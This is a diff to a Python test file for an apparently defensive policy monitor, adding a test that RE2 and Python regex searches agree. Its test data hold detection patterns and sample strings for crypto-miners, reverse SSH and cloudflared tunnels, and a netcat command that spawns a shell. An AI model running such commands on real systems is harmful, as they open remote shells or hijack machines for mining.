@@ -31,7 +31,7 @@ from monitor.policy import (
     normalise_network,
     parse_duration,
 )
-from monitor.regex import compile_pattern
+from monitor.regex import Regex, compile_pattern
 
 SRC = "policy.yaml"
 DOCS = Path(__file__).resolve().parents[2] / "docs" / "policy.md"
@@ -689,3 +689,23 @@ def test_the_c_yaml_loader_is_used_where_installed() -> None:
 
     expected = yaml.CSafeLoader if yaml.__with_libyaml__ else yaml.SafeLoader
     assert yamlcompose.LOADER is expected
+
+
+SEARCH_PATTERNS = [r"(^|[ =])stratum\+(tcp|ssl|tls)://", r"--url([ =]|$)", r"^ssh .*-R",
+                   r"(?i)XMRIG", r"\bnc\b.* -e", r"a{2,3}b", r"^$", r"x|", r"[^ ]+=[0-9]+$"]
+SEARCH_TEXTS = ["", "ssh -R 1:x:2 host", "cloudflared --url=x", "cloudflared --urlx",
+                "xmrig --donate-level 1", "run stratum+tcp://pool:3333", "nc host 1 -e sh",
+                "aab", "aaaab", "k=12", "k=12 ", "é --url", "a\nb", "x"]
+
+
+@pytest.mark.parametrize("pattern", SEARCH_PATTERNS)
+def test_re2_search_answers_like_python_re_search(pattern: str) -> None:
+    # what the policy meant under Python's re is what it means under RE2 (for patterns
+    # both accept), by the fast path and by re2's public search() alike
+    regex = compile_pattern(pattern)
+    public = Regex(pattern, regex._compiled)
+    object.__setattr__(public, "_match", None)
+    for text in SEARCH_TEXTS:
+        expected = re.search(pattern, text) is not None
+        assert (regex.search(text) is not None) == expected, text
+        assert (public.search(text) is not None) == expected, text
